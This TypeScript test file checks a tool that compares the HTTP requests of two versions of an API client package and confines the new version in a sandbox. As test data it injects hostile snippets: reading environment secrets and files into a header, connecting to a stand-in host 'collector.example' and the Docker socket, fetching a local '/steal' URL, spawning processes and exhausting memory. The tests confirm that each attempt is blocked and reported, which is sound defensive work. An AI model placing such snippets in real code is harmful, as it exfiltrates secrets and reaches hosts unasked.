import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, onTestFinished, test } from 'vitest';
import { PATH_VALUES } from '../../src/parity/calls/path-values.ts';
import { RUNNING } from '../../src/parity/index.ts';
import { callBoth, changed, CLIENT, loading } from './small-client.ts';

/** What the comparison of calls says in short. */
async function told(after: Readonly<Record<string, string>>) {
  const { value, reason } = await callBoth(after);
  expect(reason).toBeUndefined();
  const figures = Object.fromEntries(
    (value?.rows ?? []).map(({ measure, equal, total }) => [measure, { equal, total }]),
  );
  return { figures, gaps: value?.gaps ?? [] };
}

describe('the same calls with two packages', () => {
  test('are the same with one package twice', async () => {
    const { figures, gaps } = await told(CLIENT);
    expect(gaps).toEqual([]);
    expect(figures['requests']?.equal).toBe(figures['requests']?.total);
    expect(figures['requests']?.total).toBe(8);
    expect(figures['path-values']?.total).toBe(Object.keys(PATH_VALUES).length);
    expect(figures['faults']?.total).toBeGreaterThan(60);
    expect(figures['environment']).toEqual({ equal: 2, total: 2 });
  });

  test.each([
    ["'GET'", "'POST'", 'client.pets.retrieve: verb', 'GET', 'POST'],
    ["'/pets/' +", "'/v2/pets/' +", 'client.pets.retrieve: path', '/pets/petID_1', '/v2/pets/petID_1'],
    [
      "'Bearer '",
      "'Token '",
      'client.pets.create: headers',
      'authorization: Bearer apiKey_1',
      'authorization: Token apiKey_1',
    ],
    [
      '{ ...options, body }',
      '{ ...options, body: { ...body, name: undefined } }',
      'client.pets.create: body',
      '{"name":"name_1"}',
      '{}',
    ],
    [
      "query ? '?' +",
      "query ? '?more=1&' +",
      'client.pets.create: query',
      'parity mark=a b&c',
      'more=1&parity mark=a b&c',
    ],
  ])('%s → %s is a difference of %s', async (from, to, symbol, before, after) => {
    const { gaps } = await told(changed(from, to));
    expect(gaps.find((gap) => gap.symbol === symbol)).toMatchObject({ before, after, weight: 'breaking' });
  });

  test('a value in a path that is refused is a note, once for all methods', async () => {
    const { gaps, figures } = await told(
      changed(
        "return this._client.send('GET'",
        "if (petID === '') throw new AcmeError('empty'); return this._client.send('GET'",
      ),
    );
    expect(gaps).toMatchObject([
      { symbol: 'path value "empty"', weight: 'note', count: 1, after: '0 requests, then AcmeError' },
    ]);
    const { equal = 0, total = 0 } = figures['path-values'] ?? {};
    expect(equal).toBe(total - 1);
    expect(figures['requests']?.equal).toBe(figures['requests']?.total);
  });

  test('a value that led away from its method and stays in its place now is a note; one that stayed below it is not', async () => {
    const raw = changed('encodeURIComponent(petID)', 'petID');
    const { value } = await callBoth(CLIENT, { before: raw });
    const weights = new Map(
      (value?.gaps ?? []).map(({ symbol, weight, measure }) => [symbol, `${measure}: ${weight}`]),
    );
    expect(weights.get('path value "one folder up"')).toBe('path-values: note');
    expect(weights.get('path value "a slash"')).toBe('path-values: breaking');
    expect(weights.get('path value "brackets"')).toBe('path-values: note');
    const back = await callBoth(raw);
    expect(back.value?.gaps.find(({ symbol }) => symbol === 'path value "one folder up"')?.weight).toBe(
      'breaking',
    );
  });

  test('the type of a body that is not there is a note, another header beside it is what is told', async () => {
    const always = changed('...(body && { ', '...(true && { ');
    const { value } = await callBoth(CLIENT, { before: always });
    expect(value?.gaps.filter(({ measure }) => measure === 'requests')).toMatchObject([
      { symbol: 'client.pets.retrieve: headers', weight: 'note', after: 'no content-type' },
    ]);
    const other = await callBoth(changed("'Bearer '", "'Token '"), { before: always });
    expect(other.value?.gaps.find(({ symbol }) => symbol === 'client.pets.retrieve: headers')).toMatchObject({
      after: 'authorization: Token apiKey_1',
      weight: 'breaking',
    });
  });

  test('a method that is gone is told once, and not again for every value in its path', async () => {
    const { figures, gaps } = await told(changed('  retrieve(petID', '  fetch(petID'));
    expect(gaps.filter(({ measure }) => measure === 'requests')).toMatchObject([
      { symbol: 'client.pets.retrieve: missing', count: 4 },
    ]);
    expect(figures['path-values']).toEqual({ equal: 0, total: 0 });
  });

  test('another number of attempts and another class of an error are faults that end differently', async () => {
    const { gaps } = await told(
      changed('response.status < 500', 'response.status < 600').valueOf() as Readonly<Record<string, string>>,
    );
    expect(gaps.map(({ symbol }) => symbol)).toContain('client.pets.retrieve: 500, then 200');
    const other = await told(changed('new NotFoundError', 'new AcmeError'));
    expect(other.gaps.find(({ symbol }) => symbol === 'client.pets.retrieve: 404')).toMatchObject({
      before: '1 request, then AcmeError, NotFoundError',
      after: '1 request, then AcmeError',
      weight: 'note',
    });
  });

  test('an error that is of a class more is no difference', async () => {
    const { gaps } = await told(
      changed(
        'class NotFoundError extends AcmeError {}',
        'class GoneError extends AcmeError {} class NotFoundError extends GoneError {}; AcmeError.GoneError = GoneError; Promise.resolve().then(() => { module.exports.GoneError = GoneError; });',
      ),
    );
    expect(gaps).toEqual([]);
  });

  test('a variable that is not read any more', async () => {
    const { gaps } = await told(changed('process.env.ACME_BASE_URL', "'http://127.0.0.1:1'"));
    expect(gaps).toMatchObject([{ measure: 'environment', symbol: 'ACME_BASE_URL', weight: 'breaking' }]);
  });

  test('a method that asks again and again is compared once, and said', async () => {
    const endless = changed(
      'retrieve(petID, options) { return',
      'async retrieve(petID, options) { for (;;) await',
    );
    const { value, reason } = await callBoth(endless, { before: endless });
    expect(reason).toBeUndefined();
    expect(value?.remarks).toEqual([expect.stringContaining('client.pets.retrieve')]);
    expect(value?.gaps).toEqual([]);
  });
});

describe('a package that does what no SDK does', () => {
  test('finds no secret in the environment and no file of the machine, and is named for asking', async () => {
    process.env['PARITY_TEST_SECRET'] = 'hush';
    const script = `
      const all = JSON.stringify({ ...process.env }) + JSON.stringify(require('node:process').env);
      let file = 'none';
      try { file = require('node:fs').readFileSync(${JSON.stringify(
        import.meta.filename ?? '/etc/hosts',
      )}, 'utf8'); } catch (error) { file = error.code; }
    `;
    const spy = loading(script);
    const { value, contained } = await callBoth({
      ...spy,
      'index.js': (spy['index.js'] ?? '').replace("'Bearer ' + this.apiKey", "'Bearer ' + all + ' ' + file"),
    });
    delete process.env['PARITY_TEST_SECRET'];
    const header = value?.gaps.find(({ symbol }) => symbol.endsWith(': headers'))?.after;
    expect(header).toBe('authorization: Bearer {}{} ERR_ACCESS_DENIED');
    expect(contained).toEqual(['the new package asked for a list of the environment, which was empty']);
  });

  test.each([
    [
      "require('node:net').connect(443, 'collector.example').on('error', () => {});",
      'tried a connection to collector.example:443',
    ],
    [
      "require('node:tls').connect({ host: 'collector.example', port: 443 }).on('error', () => {});",
      'tried a connection to collector.example:443',
    ],
    [
      "require('node:net').connect('/var/run/docker.sock').on('error', () => {});",
      'tried a connection to /var/run/docker.sock',
    ],
    [
      "try { require('node:dns').lookup('collector.example', () => {}); } catch {}",
      'tried a look-up of collector.example',
    ],
    [
      "require('node:dns/promises').lookup('collector.example').catch(() => {});",
      'tried a look-up of collector.example',
    ],
    ["try { require('node:dgram').createSocket('udp4'); } catch {}", 'tried a datagram socket'],
    ["try { require('node:net').createServer().listen(0); } catch {}", 'tried a server'],
    ["try { process.binding('tcp_wrap'); } catch {}", 'tried native code'],
  ])('%s is kept from it and named', async (script, line) => {
    const { contained, reason, value } = await callBoth(loading(script));
    expect(reason).toBeUndefined();
    expect(contained).toEqual([`the new package ${line}`]);
    expect(value?.gaps).toEqual([]);
  });

  test('reaches no other server of this machine', async () => {
    let hits = 0;
    const server = createServer((_, response) => {
      hits += 1;
      response.end('{}');
    });
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void server.close());
    const { port } = server.address() as AddressInfo;
    const script = `
      fetch('http://127.0.0.1:${port}/steal').catch(() => {});
      require('node:http').get('http://localhost:${port}/steal').on('error', () => {});
      new (require('node:net').Socket)().on('error', () => {}).connect({ port: ${port}, host: '127.0.0.1' });
    `;
    const { contained } = await callBoth(loading(script));
    expect(hits).toBe(0);
    expect([...contained].sort()).toEqual([
      `the new package tried a connection to 127.0.0.1:${port}`,
      `the new package tried a connection to localhost:${port}`,
    ]);
  });

  test('starts no other program and no thread', async () => {
    const script = `
      let made = '';
      try { require('node:child_process').execSync('true'); made += 'program'; } catch (error) { made += error.code; }
      try { new (require('node:worker_threads').Worker)('1', { eval: true }); made += ' thread'; } catch (error) { made += ' ' + error.code; }
    `;
    const spy = loading(script);
    const { value } = await callBoth({
      ...spy,
      'index.js': (spy['index.js'] ?? '').replace("'Bearer ' + this.apiKey", "'Bearer ' + made"),
    });
    expect(value?.gaps.find(({ symbol }) => symbol.endsWith(': headers'))?.after).toBe(
      'authorization: Bearer ERR_ACCESS_DENIED ERR_ACCESS_DENIED',
    );
  });

  test.each([
    ['process.exit(7);', 'new: the package ended the process with code 7'],
    ['throw new Error("no licence");', 'new: the package cannot be loaded: no licence'],
    [
      'const held = []; for (;;) held.push(new Array(100000).fill(held.length));',
      'new: the package used more than 200 MB',
    ],
    [
      'const held = []; for (;;) { held.push(Buffer.alloc(10000000, 1)); Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20); }',
      'new: the package used more than 200 MB',
    ],
  ])('%s ends the comparison of requests with a reason', async (script, expected) => {
    const { reason, value } = await callBoth(loading(script), { limits: { megabytes: 200 } });
    expect(reason).toBe(expected);
    expect(value).toBeUndefined();
  });

  test('never ends when it is loaded', async () => {
    const { reason } = await callBoth(loading('for (;;) {}'), { limits: { load: 3000 } });
    expect(reason).toMatch(/^new: the package was not loaded within 3 s$/);
  });

  test('ends the process in the middle of the calls', async () => {
    const { value } = await callBoth(
      changed('const attempts', 'if (method === "POST") process.exit(0); const attempts'),
    );
    expect(value?.rows).toEqual([]);
    expect(value?.skipped.map(({ measure }) => measure)).toEqual(RUNNING);
    expect(value?.skipped[0]?.reason).toBe('new: the package ended the process with code 0');
  });
});
